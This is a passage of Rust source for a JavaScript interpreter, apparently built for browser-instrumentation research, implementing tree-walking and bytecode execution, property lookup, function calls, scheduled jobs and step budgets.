        &mut self,
        compiled: &crate::compile::CompiledScript,
    ) -> Result<Value, EngineError> {
        match self.engine {
            crate::vm::Engine::Vm => {
                let chunks = compiled.chunk().clone();
                let program = compiled.ast().clone();
                self.eval_program_vm(&chunks, &program, compiled.name())
            }
            crate::vm::Engine::Tree => {
                let program = compiled.ast().clone();
                self.eval_program_tree(&program, compiled.name())
            }
        }
    }

    /// Execute either form of [`ScriptSource`](crate::compile::ScriptSource):
    /// raw text compiles on the spot (uncached); a compiled handle reuses
    /// its shared parse.
    pub fn eval_source(
        &mut self,
        source: &crate::compile::ScriptSource,
    ) -> Result<Value, EngineError> {
        match source {
            crate::compile::ScriptSource::Raw { source, name } => self.eval_script(source, name),
            crate::compile::ScriptSource::Compiled(cs) => self.eval_compiled(cs),
        }
    }

    /// Execute an already-parsed top-level program under `script_name`.
    ///
    /// This is the single backend dispatch point: everything above it —
    /// [`eval_script`](Interp::eval_script),
    /// [`eval_source`](Interp::eval_source), `Page::run_script`, the visit
    /// loop — is engine-agnostic, and the [`Engine`](crate::vm::Engine)
    /// chosen here (plus the matching branch in [`Interp::call`]) decides
    /// how statements actually execute.
    pub fn eval_program(
        &mut self,
        program: &crate::ast::Program,
        script_name: &Arc<str>,
    ) -> Result<Value, EngineError> {
        match self.engine {
            crate::vm::Engine::Vm => {
                // Uncached path: compile on the spot. Cached scripts come
                // through `eval_compiled`, which reuses the shared chunk.
                let chunks = crate::bytecode::compile_program(program);
                self.eval_program_vm(&chunks, program, script_name)
            }
            crate::vm::Engine::Tree => self.eval_program_tree(program, script_name),
        }
    }

    /// Tree-walking backend for [`eval_program`](Interp::eval_program) —
    /// the reference oracle the VM is held byte-identical to.
    fn eval_program_tree(
        &mut self,
        program: &crate::ast::Program,
        script_name: &Arc<str>,
    ) -> Result<Value, EngineError> {
        self.stack.push(Frame {
            name: Arc::from("(toplevel)"),
            script: script_name.clone(),
            line: 1,
        });
        let scope = self.global_scope.clone();
        // Hoist function declarations.
        for stmt in &program.body {
            if let Stmt::FunctionDecl(def) = stmt {
                let f = self.alloc_script_fn(def.clone(), scope.clone());
                self.define_global(def.name.clone(), Value::Obj(f));
            }
        }
        let mut last = Value::Undefined;
        let mut error = None;
        for stmt in &program.body {
            let step = match stmt {
                Stmt::Expr(e) => self.eval_expr(e, &scope).map(|v| {
                    last = v;
                }),
                other => self.exec_stmt(other, &scope).map(|_| ()),
            };
            if let Err(t) = step {
                error = Some(t);
                break;
            }
        }
        self.stack.pop();
        match error {
            None => Ok(last),
            Some(t) => Err(self.thrown_to_error(t)),
        }
    }

    /// Bytecode backend for [`eval_program`](Interp::eval_program): same
    /// frame, hoisting and error paths as the oracle, with the statement
    /// walk replaced by [`crate::vm::run_chunk`].
    fn eval_program_vm(
        &mut self,
        chunks: &crate::bytecode::ScriptChunk,
        program: &crate::ast::Program,
        script_name: &Arc<str>,
    ) -> Result<Value, EngineError> {
        // Seed the function-chunk memo so calls skip the lazy compile.
        for (def, chunk) in &chunks.fns {
            self.fn_chunks
                .entry(Arc::as_ptr(def) as usize)
                .or_insert_with(|| (def.clone(), chunk.clone()));
        }
        self.stack.push(Frame {
            name: Arc::from("(toplevel)"),
            script: script_name.clone(),
            line: 1,
        });
        let scope = self.global_scope.clone();
        // Hoist function declarations (identical to the oracle).
        for stmt in &program.body {
            if let Stmt::FunctionDecl(def) = stmt {
                let f = self.alloc_script_fn(def.clone(), scope.clone());
                self.define_global(def.name.clone(), Value::Obj(f));
            }
        }
        let r = crate::vm::run_chunk(self, &chunks.top, &scope);
        self.stack.pop();
        r.map_err(|t| self.thrown_to_error(t))
    }

    /// The VM chunk for a function body: memo hit, else compile lazily
    /// (functions defined by raw source or `eval` have no cached script to
    /// carry their bytecode).
    pub(crate) fn function_chunk(
        &mut self,
        def: &Arc<FunctionDef>,
    ) -> Arc<crate::bytecode::Chunk> {
        let key = Arc::as_ptr(def) as usize;
        if let Some((_, chunk)) = self.fn_chunks.get(&key) {
            return chunk.clone();
        }
        let chunk = Arc::new(crate::bytecode::compile_function(def));
        self.fn_chunks.insert(key, (def.clone(), chunk.clone()));
        chunk
    }

    /// Execute all pending jobs that are due at or before the (advanced)
    /// virtual clock. Jobs run in (due, seq) order; jobs scheduled by other
    /// jobs also run if due. Errors inside jobs are collected, not fatal.
    pub fn advance_time(&mut self, delta_ms: u64) -> Vec<Thrown> {
        let target = self.now_ms + delta_ms;
        let mut errors = Vec::new();
        loop {
            // Find the earliest job due within the window.
            let mut best: Option<usize> = None;
            for (i, job) in self.jobs.iter().enumerate() {
                if job.due <= target {
                    match best {
                        None => best = Some(i),
                        Some(b) => {
                            let jb = &self.jobs[b];
                            if (job.due, job.seq) < (jb.due, jb.seq) {
                                best = Some(i);
                            }
                        }
                    }
                }
            }
            let Some(i) = best else { break };
            let job = self.jobs.remove(i);
            // The clock reads as the job's firing time while it runs, so
            // jobs it schedules land relative to that instant (as in a real
            // event loop), not the end of the window.
            self.now_ms = self.now_ms.max(job.due);
            if let Err(t) = self.call(job.func.clone(), Value::Obj(self.global), &job.args) {
                errors.push(t);
            }
        }
        self.now_ms = target;
        errors
    }

    /// Schedule a job at `now + delay_ms`. Returns the job sequence number.
    pub fn push_job(&mut self, func: Value, args: Vec<Value>, delay_ms: u64) -> u64 {
        let seq = self.job_seq;
        self.job_seq += 1;
        self.jobs.push(Job { due: self.now_ms + delay_ms, seq, func, args });
        seq
    }

    /// Are there pending jobs?
    pub fn has_pending_jobs(&self) -> bool {
        !self.jobs.is_empty()
    }

    /// The global scope reference (used by `eval` and host shims).
    pub fn global_scope(&self) -> ScopeRef {
        self.global_scope.clone()
    }

    /// Name of the script of the innermost frame, skipping frames whose
    /// script name satisfies `skip`. This is the engine-level equivalent of
    /// OpenWPM's `getOriginatingScriptContext`.
    pub fn originating_script(&self, skip: &dyn Fn(&str) -> bool) -> Option<Arc<str>> {
        self.stack.iter().rev().find(|f| !skip(&f.script)).map(|f| f.script.clone())
    }

    /// Render the current call stack the way `Error.stack` does
    /// (innermost first, `name@script:line`).
    pub fn capture_stack_string(&self) -> String {
        let mut out = String::new();
        for frame in self.stack.iter().rev() {
            out.push_str(&format!("{}@{}:{}\n", frame.name, frame.script, frame.line));
        }
        out
    }

    // -------------------------------------------------------- allocation

    pub fn alloc_object(&mut self) -> ObjId {
        self.heap.alloc(JsObject::plain(Some(self.intrinsics.object_proto)))
    }

    pub fn alloc_object_with_class(&mut self, class: &str) -> ObjId {
        self.heap.alloc(JsObject::with_class(Some(self.intrinsics.object_proto), class))
    }

    pub fn alloc_array(&mut self, items: Vec<Value>) -> ObjId {
        let mut obj = JsObject::with_class(Some(self.intrinsics.array_proto), "Array");
        obj.elements = Some(items);
        self.heap.alloc(obj)
    }

    /// Allocate a native function object. Its `toString` renders as
    /// `function <name>() {\n    [native code]\n}` — identical to a pristine
    /// builtin, which is exactly the covert channel the stealth
    /// instrumentation uses (Sec. 6.1.1).
    pub fn alloc_native_fn(
        &mut self,
        name: &str,
        f: impl Fn(&mut Interp, Value, &[Value]) -> Result<Value, Thrown> + 'static,
    ) -> ObjId {
        let mut obj = JsObject::with_class(Some(self.intrinsics.function_proto), "Function");
        obj.call = Some(Callable::Native { name: Arc::from(name), f: Rc::new(f) });
        obj.props.insert(
            Arc::from("name"),
            Property { slot: Slot::Data(Value::str(name)), enumerable: false, writable: false },
        );
        self.heap.alloc(obj)
    }

    /// Allocate a script function closing over `env`.
    pub fn alloc_script_fn(&mut self, def: Arc<FunctionDef>, env: ScopeRef) -> ObjId {
        let mut obj = JsObject::with_class(Some(self.intrinsics.function_proto), "Function");
        obj.props.insert(
            Arc::from("name"),
            Property {
                slot: Slot::Data(Value::str(&def.name)),
                enumerable: false,
                writable: false,
            },
        );
        obj.call = Some(Callable::Script { def, env });
        let id = self.heap.alloc(obj);
        // Every script function gets a `prototype` object for `new`.
        let proto_obj = self.alloc_object();
        self.heap.get_mut(proto_obj).props.insert(
            Arc::from("constructor"),
            Property::data_hidden(Value::Obj(id)),
        );
        self.heap
            .get_mut(id)
            .props
            .insert(Arc::from("prototype"), Property::data_hidden(Value::Obj(proto_obj)));
        id
    }

    /// Allocate an `Error`-family object, capturing the live stack.
    pub fn alloc_error(&mut self, kind: ErrorKind, message: &str) -> ObjId {
        let proto = match kind {
            ErrorKind::Error => self.intrinsics.error_proto,
            ErrorKind::Type => self.intrinsics.type_error_proto,
            ErrorKind::Reference => self.intrinsics.reference_error_proto,
            ErrorKind::Range => self.intrinsics.range_error_proto,
        };
        let stack = self.capture_stack_string();
        let mut obj = JsObject::with_class(Some(proto), "Error");
        obj.props.insert(Arc::from("message"), Property::data_hidden(Value::str(message)));
        obj.props.insert(Arc::from("stack"), Property::data_hidden(Value::str(stack)));
        self.heap.alloc(obj)
    }

    pub fn throw_error(&mut self, kind: ErrorKind, message: &str) -> Thrown {
        let obj = self.alloc_error(kind, message);
        let name = match kind {
            ErrorKind::Error => "Error",
            ErrorKind::Type => "TypeError",
            ErrorKind::Reference => "ReferenceError",
            ErrorKind::Range => "RangeError",
        };
        Thrown::new(Value::Obj(obj), format!("{name}: {message}"))
    }

    /// Define (or overwrite) a data property on the global object.
    pub fn define_global(&mut self, name: Arc<str>, value: Value) {
        let g = self.global;
        self.heap.get_mut(g).props.insert(name, Property::data(value));
    }

    // ------------------------------------------------------------ getters

    /// Full property lookup with prototype chain and accessor invocation.
    /// `base` may be a primitive (string/number/boolean), which dispatches
    /// to the corresponding prototype without allocating a wrapper.
    pub fn get_prop(&mut self, base: &Value, key: &str) -> Result<Value, Thrown> {
        match base {
            Value::Str(s) => {
                if key == "length" {
                    return Ok(Value::Num(s.chars().count() as f64));
                }
                if let Ok(idx) = key.parse::<usize>() {
                    return Ok(s
                        .chars()
                        .nth(idx)
                        .map(|c| Value::str(c.to_string()))
                        .unwrap_or(Value::Undefined));
                }
                let proto = self.intrinsics.string_proto;
                self.get_from_object(proto, base.clone(), key)
            }
            Value::Num(_) => {
                let proto = self.intrinsics.number_proto;
                self.get_from_object(proto, base.clone(), key)
            }
            Value::Bool(_) => {
                let proto = self.intrinsics.boolean_proto;
                self.get_from_object(proto, base.clone(), key)
            }
            Value::Obj(id) => {
                // Array fast paths.
                let obj = self.heap.get(*id);
                if let Some(elems) = &obj.elements {
                    if key == "length" {
                        return Ok(Value::Num(elems.len() as f64));
                    }
                    if let Ok(idx) = key.parse::<usize>() {
                        return Ok(elems.get(idx).cloned().unwrap_or(Value::Undefined));
                    }
                }
                self.get_from_object(*id, base.clone(), key)
            }
            Value::Undefined | Value::Null => Err(self.throw_error(
                ErrorKind::Type,
                &format!("cannot read properties of {base} (reading '{key}')"),
            )),
        }
    }

    /// Walk the prototype chain starting at `start`, invoking accessors with
    /// `this = receiver`.
    fn get_from_object(
        &mut self,
        start: ObjId,
        receiver: Value,
        key: &str,
    ) -> Result<Value, Thrown> {
        let mut cur = Some(start);
        while let Some(id) = cur {
            let obj = self.heap.get(id);
            if let Some(prop) = obj.props.get(key) {
                return match &prop.slot {
                    Slot::Data(v) => Ok(v.clone()),
                    Slot::Accessor { get: Some(g), .. } => {
                        let getter = *g;
                        self.call(Value::Obj(getter), receiver, &[])
                    }
                    Slot::Accessor { get: None, .. } => Ok(Value::Undefined),
                };
            }
            cur = obj.proto;
        }
        Ok(Value::Undefined)
    }

    /// Property assignment. Respects setters found along the prototype
    /// chain; otherwise defines a data property on the receiver (standard
    /// non-strict semantics — this is why a page can shadow
    /// `document.dispatchEvent` and hijack the vanilla instrument's
    /// messaging, Listing 2 of the paper).
    pub fn set_prop(&mut self, base: &Value, key: &str, value: Value) -> Result<(), Thrown> {
        let Some(id) = base.as_obj() else {
            // Assigning to primitive properties silently fails (non-strict).
            return Ok(());
        };
        // Array element stores.
        {
            let obj = self.heap.get_mut(id);
            if let Some(elems) = &mut obj.elements {
                if key == "length" {
                    let n = value.to_number();
                    if n >= 0.0 && n == n.trunc() {
                        elems.resize(n as usize, Value::Undefined);
                    }
                    return Ok(());
                }
                if let Ok(idx) = key.parse::<usize>() {
                    if idx >= elems.len() {
                        elems.resize(idx + 1, Value::Undefined);
                    }
                    elems[idx] = value;
                    return Ok(());
                }
            }
        }
        // Setter anywhere along the chain?
        let mut cur = Some(id);
        while let Some(oid) = cur {
            let obj = self.heap.get(oid);
            if let Some(prop) = obj.props.get(key) {
                match &prop.slot {
                    Slot::Accessor { set: Some(s), .. } => {
                        let setter = *s;
                        self.call(Value::Obj(setter), base.clone(), &[value])?;
                        return Ok(());
                    }
                    Slot::Accessor { set: None, .. } => {
                        // Getter-only accessor: silent no-op (non-strict).
                        return Ok(());
                    }
                    Slot::Data(_) => {
                        if oid == id {
                            if prop.writable {
                                let obj = self.heap.get_mut(oid);
                                if let Some(p) = obj.props.get_mut(key) {
                                    p.slot = Slot::Data(value);
                                }
                            }
                            return Ok(());
                        }
                        // Shadow an inherited data property.
                        break;
                    }
                }
            }
            cur = obj.proto;
        }
        self.heap.get_mut(id).props.insert(Arc::from(key), Property::data(value));
        Ok(())
    }

    /// `typeof`.
    pub fn type_of(&self, v: &Value) -> &'static str {
        if let Value::Obj(id) = v {
            if self.heap.get(*id).is_callable() {
                return "function";
            }
        }
        v.type_of_primitive()
    }

    /// String conversion that honours `toString` on objects.
    pub fn to_string_value(&mut self, v: &Value) -> Result<Arc<str>, Thrown> {
        match v {
            Value::Str(s) => Ok(s.clone()),
            Value::Obj(id) => {
                // Arrays render as joined elements (JS default).
                if let Some(elems) = self.heap.get(*id).elements.clone() {
                    let mut parts = Vec::with_capacity(elems.len());
                    for e in &elems {
                        if e.is_nullish() {
                            parts.push(String::new());
                        } else {
                            parts.push(self.to_string_value(e)?.to_string());
                        }
                    }
                    return Ok(Arc::from(parts.join(",")));
                }
                let ts = self.get_prop(v, "toString")?;
                if let Value::Obj(f) = &ts {
                    if self.heap.get(*f).is_callable() {
                        let r = self.call(ts, v.clone(), &[])?;
                        return match r {
                            Value::Obj(_) => Ok(Arc::from("[object Object]")),
                            prim => self.to_string_value(&prim),
                        };
                    }
                }
                Ok(Arc::from(format!("[object {}]", self.heap.get(*id).class)))
            }
            other => Ok(Arc::from(other.to_string())),
        }
    }

    /// Numeric conversion honouring object-to-primitive.
    pub fn to_number_value(&mut self, v: &Value) -> Result<f64, Thrown> {
        match v {
            Value::Obj(_) => {
                let s = self.to_string_value(v)?;
                Ok(Value::Str(s).to_number())
            }
            prim => Ok(prim.to_number()),
        }
    }

    // --------------------------------------------------------------- calls

    /// Call `func` with explicit `this` and arguments. Pushes a stack frame
    /// for script functions (native calls execute invisibly, like real
    /// native code in SpiderMonkey stack traces).
    pub fn call(&mut self, func: Value, this: Value, args: &[Value]) -> Result<Value, Thrown> {
        let Some(fid) = func.as_obj() else {
            return Err(self.throw_error(ErrorKind::Type, "value is not a function"));
        };
        let callable = match &self.heap.get(fid).call {
            Some(c) => c.clone(),
            None => {
                return Err(self.throw_error(ErrorKind::Type, "object is not callable"));
            }
        };
        if self.stack.len() >= self.max_depth {
            return Err(Thrown::new(Value::str("InternalError: too much recursion"), "too much recursion"));
        }
        if let Some(p) = &mut self.profiler {
            p.record_call(self.stack.len() + 1);
        }
        match callable {
            Callable::Native { name, f } => {
                // The per-builtin dispatch counter lives in the shared
                // builtins layer, so both engines record identical
                // `builtin.<name>` leaves.
                crate::builtins::dispatch_native(self, &name, &f, this, args)
            }
            Callable::Script { def, env } => {
                let scope = Rc::new(RefCell::new(Scope {
                    vars: AtomMap::default(),
                    parent: Some(env),
                    this_val: if def.is_arrow { None } else { Some(this) },
                }));
                {
                    let mut s = scope.borrow_mut();
                    for (i, p) in def.params.iter().enumerate() {
                        s.vars
                            .insert(Atom::intern_arc(p), args.get(i).cloned().unwrap_or(Value::Undefined));
                    }
                }
                if !def.is_arrow {
                    let arguments = self.alloc_array(args.to_vec());
                    scope
                        .borrow_mut()
                        .vars
                        .insert(Atom::intern("arguments"), Value::Obj(arguments));
                }
                let display_name: Arc<str> = if def.name.is_empty() {
                    Arc::from("<anonymous>")
                } else {
                    def.name.clone()
                };
                self.stack.push(Frame {
                    name: display_name,
                    script: def.script.clone(),
                    line: def.line,
                });
                // Hoist inner function declarations (shared by both
                // engines, so allocation order is identical).
                for stmt in def.body.iter() {
                    if let Stmt::FunctionDecl(d) = stmt {
                        let f = self.alloc_script_fn(d.clone(), scope.clone());
                        scope.borrow_mut().vars.insert(Atom::intern_arc(&d.name), Value::Obj(f));
                    }
                }
                let result = if self.engine == crate::vm::Engine::Vm {
                    let chunk = self.function_chunk(&def);
                    crate::vm::run_chunk(self, &chunk, &scope)
                } else {
                    let mut result = Ok(Value::Undefined);
                    for stmt in def.body.iter() {
                        match self.exec_stmt(stmt, &scope) {
                            Ok(Flow::Normal) => {}
                            Ok(Flow::Return(v)) => {
                                result = Ok(v);
                                break;
                            }
                            Ok(Flow::Break) | Ok(Flow::Continue) => {}
                            Err(t) => {
                                result = Err(t);
                                break;
                            }
                        }
                    }
                    result
                };
                self.stack.pop();
                result
            }
        }
    }

    /// `new Ctor(args)`.
    pub fn construct(&mut self, ctor: Value, args: &[Value]) -> Result<Value, Thrown> {
        let Some(fid) = ctor.as_obj() else {
            return Err(self.throw_error(ErrorKind::Type, "constructor is not a function"));
        };
        if !self.heap.get(fid).is_callable() {
            return Err(self.throw_error(ErrorKind::Type, "constructor is not callable"));
        }
        // Natives that construct (Error, CustomEvent, …) receive
        // `this = undefined` and return their object.
        if matches!(self.heap.get(fid).call, Some(Callable::Native { .. })) {
            return self.call(ctor, Value::Undefined, args);
        }
        let proto = match self.get_prop(&ctor, "prototype")? {
            Value::Obj(p) => p,
            _ => self.intrinsics.object_proto,
        };
        let obj = self.heap.alloc(JsObject::plain(Some(proto)));
        let r = self.call(ctor, Value::Obj(obj), args)?;
        Ok(match r {
            Value::Obj(_) => r,
            _ => Value::Obj(obj),
        })
    }

    fn thrown_to_error(&mut self, t: Thrown) -> EngineError {
        if t.message.contains("step budget") {
            EngineError::Budget("step")
        } else {
            EngineError::Uncaught(t)
        }
    }

    fn charge_step(&mut self) -> Result<(), Thrown> {
        self.steps += 1;
        if let Some(p) = &mut self.profiler {
            p.record_step();
        }
        if self.steps > self.step_limit {
            Err(Thrown::new(Value::str("InternalError: step budget exceeded"), "step budget exceeded"))
        } else {
            Ok(())
        }
    }

    /// Charge `n` coalesced steps (the VM batches pure-node charges into
    /// one budget check). The fast path cannot cross the limit; when it
    /// would, fall back to per-unit charging so the budget error fires
    /// after exactly as many recorded steps as the tree-walker's.
    #[inline]
    pub(crate) fn charge_steps(&mut self, n: u32) -> Result<(), Thrown> {
        if self.steps + n as u64 <= self.step_limit {
            self.steps += n as u64;
            if let Some(p) = &mut self.profiler {
                p.record_steps(n);
            }
            Ok(())
        } else {
            for _ in 0..n {
                self.charge_step()?;
            }
            Ok(())
        }
    }

    /// Reset the step budget (between page loads).
    pub fn reset_steps(&mut self) {
        self.steps = 0;
    }

    /// Install the standard counting profiler (replacing any other).
    pub fn enable_profiling(&mut self) {
        self.profiler = Some(Box::<CountingProfiler>::default());
    }

    /// Remove the profiler and return its aggregated counts.
    pub fn take_profile(&mut self) -> Option<Profile> {
        self.profiler.take().map(|p| p.report())
    }

    // ---------------------------------------------------------- statements

    fn exec_block(&mut self, stmts: &[Stmt], scope: &ScopeRef) -> Result<Flow, Thrown> {
        // Hoist function declarations within the block.
        for stmt in stmts {
            if let Stmt::FunctionDecl(d) = stmt {
                let f = self.alloc_script_fn(d.clone(), scope.clone());
                self.declare(scope, d.name.clone(), Value::Obj(f));
            }
        }
        for stmt in stmts {
            match self.exec_stmt(stmt, scope)? {
                Flow::Normal => {}
                other => return Ok(other),
            }
        }
        Ok(Flow::Normal)
    }

    pub(crate) fn exec_stmt(&mut self, stmt: &Stmt, scope: &ScopeRef) -> Result<Flow, Thrown> {
        self.charge_step()?;
        match stmt {
            Stmt::Empty => Ok(Flow::Normal),
            Stmt::Expr(e) => {
                self.eval_expr(e, scope)?;
                Ok(Flow::Normal)
            }
            Stmt::VarDecl { name, init } => {
                let v = match init {
                    Some(e) => self.eval_expr(e, scope)?,
                    None => Value::Undefined,
                };
                self.declare(scope, name.clone(), v);
                Ok(Flow::Normal)
            }
            Stmt::FunctionDecl(_) => Ok(Flow::Normal), // hoisted
            Stmt::Return(e) => {
                let v = match e {
                    Some(e) => self.eval_expr(e, scope)?,
                    None => Value::Undefined,
                };
                Ok(Flow::Return(v))
            }
            Stmt::If { cond, then, otherwise } => {
                let c = self.eval_expr(cond, scope)?;
                if c.truthy() {
                    self.exec_block(then, scope)
                } else if let Some(e) = otherwise {
                    self.exec_block(e, scope)
                } else {
                    Ok(Flow::Normal)
                }
            }
            Stmt::While { cond, body } => {
                loop {
                    self.charge_step()?;
                    if !self.eval_expr(cond, scope)?.truthy() {
                        break;
                    }
                    match self.exec_block(body, scope)? {
                        Flow::Normal | Flow::Continue => {}
                        Flow::Break => break,
                        r @ Flow::Return(_) => return Ok(r),
                    }
                }
                Ok(Flow::Normal)
            }
            Stmt::For { init, cond, update, body } => {
                if let Some(init) = init {
                    self.exec_stmt(init, scope)?;
                }
                loop {
                    self.charge_step()?;
                    if let Some(c) = cond {
                        if !self.eval_expr(c, scope)?.truthy() {
                            break;
                        }
                    }
                    match self.exec_block(body, scope)? {
                        Flow::Normal | Flow::Continue => {}
                        Flow::Break => break,
                        r @ Flow::Return(_) => return Ok(r),
                    }
                    if let Some(u) = update {
                        self.eval_expr(u, scope)?;
                    }
                }
                Ok(Flow::Normal)
            }
            Stmt::ForIn { var, object, body } => {
                let obj = self.eval_expr(object, scope)?;
                let keys = self.enumerate_keys(&obj);
                self.declare(scope, var.clone(), Value::Undefined);
                for key in keys {
                    self.assign_ident(scope, var, Value::Str(key))?;
                    match self.exec_block(body, scope)? {
                        Flow::Normal | Flow::Continue => {}
                        Flow::Break => break,
                        r @ Flow::Return(_) => return Ok(r),
                    }
                }
                Ok(Flow::Normal)
            }
            Stmt::ForOf { var, object, body } => {
                let obj = self.eval_expr(object, scope)?;
                let items: Vec<Value> = match &obj {
                    Value::Obj(id) => match &self.heap.get(*id).elements {
                        Some(elems) => elems.clone(),
                        None => {
                            return Err(self
                                .throw_error(ErrorKind::Type, "value is not iterable"))
                        }
                    },
                    Value::Str(s) => {
                        s.chars().map(|c| Value::str(c.to_string())).collect()
                    }
                    _ => {
                        return Err(self.throw_error(ErrorKind::Type, "value is not iterable"))
                    }
                };
                self.declare(scope, var.clone(), Value::Undefined);
                for item in items {
                    self.assign_ident(scope, var, item)?;
                    match self.exec_block(body, scope)? {
                        Flow::Normal | Flow::Continue => {}
                        Flow::Break => break,
                        r @ Flow::Return(_) => return Ok(r),
                    }
                }
                Ok(Flow::Normal)
            }
            Stmt::Break => Ok(Flow::Break),
            Stmt::Continue => Ok(Flow::Continue),
            Stmt::Throw(e, line) => {
                if let Some(f) = self.stack.last_mut() {
                    f.line = *line;
                }
                let v = self.eval_expr(e, scope)?;
                let msg = match &v {
                    Value::Obj(_) => {
                        let m = self.get_prop(&v, "message").unwrap_or(Value::Undefined);
                        format!("Error: {m}")
                    }
                    prim => prim.to_string(),
                };
                Err(Thrown::new(v, msg))
            }
            Stmt::Try { body, catch, finally } => {
                let result = self.exec_block(body, scope);
                let result = match result {
                    Err(t) if !t.message.contains("step budget") => {
                        if let Some((param, cbody)) = catch {
                            let cscope = Rc::new(RefCell::new(Scope {
                                vars: AtomMap::default(),
                                parent: Some(scope.clone()),
                                this_val: None,
                            }));
                            cscope.borrow_mut().vars.insert(Atom::intern_arc(param), t.value);
                            self.exec_block(cbody, &cscope)
                        } else {
                            Err(t)
                        }
                    }
                    other => other,
                };
                if let Some(fin) = finally {
                    match self.exec_block(fin, scope)? {
                        Flow::Normal => {}
                        other => return Ok(other), // finally overrides
                    }
                }
                result
            }
            Stmt::Block(stmts) => self.exec_block(stmts, scope),
        }
    }

    /// Enumerate `for`-`in` keys: own + inherited enumerable, deduplicated.
    pub fn enumerate_keys(&self, v: &Value) -> Vec<Arc<str>> {
        let mut out: Vec<Arc<str>> = Vec::new();
        let mut seen = std::collections::HashSet::new();
        let Some(mut cur) = v.as_obj().map(Some).unwrap_or(None) else {
            return out;
        };
        loop {
            let obj = self.heap.get(cur);
            if let Some(elems) = &obj.elements {
                for i in 0..elems.len() {
                    let k: Arc<str> = Arc::from(i.to_string());
                    if seen.insert(k.clone()) {
                        out.push(k);
                    }
                }
            }
            for (k, p) in obj.props.iter() {
                if p.enumerable && seen.insert(k.clone()) {
                    out.push(k.clone());
                }
            }
            match obj.proto {
                Some(p) => cur = p,
                None => break,
            }
        }
        out
    }

    // --------------------------------------------------------- expressions

    pub(crate) fn declare(&mut self, scope: &ScopeRef, name: Arc<str>, v: Value) {
        if Rc::ptr_eq(scope, &self.global_scope) {
            self.define_global(name, v);
        } else {
            scope.borrow_mut().vars.insert(Atom::intern_arc(&name), v);
        }
    }

    pub(crate) fn lookup_ident(&mut self, scope: &ScopeRef, name: &str) -> Option<Value> {
        // A never-interned name can't be bound in any scope (declaration
        // interns it), so the chain walk is skipped entirely for it.
        if let Some(atom) = Atom::lookup(name) {
            let mut cur = Some(scope.clone());
            while let Some(s) = cur {
                let b = s.borrow();
                if let Some(v) = b.vars.get(&atom) {
                    return Some(v.clone());
                }
                cur = b.parent.clone();
            }
        }
        // Fall back to global object properties (host objects live there).
        let g = self.global;
        let obj = self.heap.get(g);
        if obj.props.contains(name) {
            return self.get_from_object(g, Value::Obj(g), name).ok();
        }
        None
    }

    pub(crate) fn assign_ident(&mut self, scope: &ScopeRef, name: &str, v: Value) -> Result<(), Thrown> {
        if let Some(atom) = Atom::lookup(name) {
            let mut cur = Some(scope.clone());
            while let Some(s) = cur {
                {
                    let mut b = s.borrow_mut();
                    if let Some(slot) = b.vars.get_mut(&atom) {
                        *slot = v;
                        return Ok(());
                    }
                }
                let parent = s.borrow().parent.clone();
                cur = parent;
            }
        }
        // Undeclared assignment creates/overwrites a global property (which
        // may hit a setter — e.g. an instrumented global accessor).
        let g = Value::Obj(self.global);
        self.set_prop(&g, name, v)
    }

    /// [`Self::lookup_ident`] with the atom pre-interned (the VM stores
    /// atoms in its chunks), skipping the per-access string hash of
    /// [`Atom::lookup`]. Observably identical: an interned-but-unbound
    /// name falls through to the global object exactly like a
    /// never-interned one.
    #[inline]
    pub(crate) fn lookup_ident_fast(&mut self, scope: &ScopeRef, atom: Atom, name: &str) -> Option<Value> {
        // Immediate-scope hit (the overwhelmingly common case for function
        // locals) without touching the Rc refcount.
        let mut cur = {
            let b = scope.borrow();
            if let Some(v) = b.vars.get(&atom) {
                return Some(v.clone());
            }
            b.parent.clone()
        };
        while let Some(s) = cur {
            let b = s.borrow();
            if let Some(v) = b.vars.get(&atom) {
                return Some(v.clone());
            }
            cur = b.parent.clone();
        }
        let g = self.global;
        let obj = self.heap.get(g);
        if obj.props.contains(name) {
            return self.get_from_object(g, Value::Obj(g), name).ok();
        }
        None
    }

    /// [`Self::assign_ident`] with the atom pre-interned; see
    /// [`Self::lookup_ident_fast`].
    #[inline]
    pub(crate) fn assign_ident_fast(
        &mut self,
        scope: &ScopeRef,
        atom: Atom,
        name: &str,
        v: Value,
    ) -> Result<(), Thrown> {
        let mut cur = {
            let mut b = scope.borrow_mut();
            if let Some(slot) = b.vars.get_mut(&atom) {
                *slot = v;
                return Ok(());
            }
            b.parent.clone()
        };
        while let Some(s) = cur {
            {
                let mut b = s.borrow_mut();
                if let Some(slot) = b.vars.get_mut(&atom) {
                    *slot = v;
                    return Ok(());
                }
            }
            let parent = s.borrow().parent.clone();
            cur = parent;
        }
        let g = Value::Obj(self.global);
        self.set_prop(&g, name, v)
    }

    /// [`Self::declare`] with the atom pre-interned (non-global scopes skip
    /// re-interning; the global path still needs the name for the property
    /// table).
    pub(crate) fn declare_fast(&mut self, scope: &ScopeRef, atom: Atom, name: &Arc<str>, v: Value) {
        if Rc::ptr_eq(scope, &self.global_scope) {
            self.define_global(name.clone(), v);
        } else {
            scope.borrow_mut().vars.insert(atom, v);
        }
    }

    pub(crate) fn resolve_this(&self, scope: &ScopeRef) -> Value {
        let mut cur = Some(scope.clone());
        while let Some(s) = cur {
            let b = s.borrow();
            if let Some(t) = &b.this_val {
                return t.clone();
            }
            cur = b.parent.clone();
        }
        Value::Obj(self.global)
    }

    fn eval_expr(&mut self, expr: &Expr, scope: &ScopeRef) -> Result<Value, Thrown> {
        self.charge_step()?;
        match expr {
            Expr::Num(n) => Ok(Value::Num(*n)),
            Expr::Str(s) => Ok(Value::Str(s.clone())),
            Expr::Bool(b) => Ok(Value::Bool(*b)),
            Expr::Null => Ok(Value::Null),
            Expr::Undefined => Ok(Value::Undefined),
            Expr::This => Ok(self.resolve_this(scope)),
            Expr::Ident(name) => match self.lookup_ident(scope, name) {
                Some(v) => Ok(v),
                None => {
                    Err(self.throw_error(ErrorKind::Reference, &format!("{name} is not defined")))
                }
            },
            Expr::Array(items) => {
                let mut vals = Vec::with_capacity(items.len());
                for item in items {
                    vals.push(self.eval_expr(item, scope)?);
                }
                Ok(Value::Obj(self.alloc_array(vals)))
            }
            Expr::Object(pairs) => {
                let id = self.alloc_object();
                for (k, e) in pairs {
                    let v = self.eval_expr(e, scope)?;
                    self.heap.get_mut(id).props.insert(k.clone(), Property::data(v));
                }
                Ok(Value::Obj(id))
            }
            Expr::Function(def) => {
                Ok(Value::Obj(self.alloc_script_fn(def.clone(), scope.clone())))
            }
            Expr::Member { base, key, line } => {
                if let Some(f) = self.stack.last_mut() {
                    f.line = *line;
                }
                let b = self.eval_expr(base, scope)?;
                self.get_prop(&b, key)
            }
            Expr::Index { base, index, line } => {
                if let Some(f) = self.stack.last_mut() {
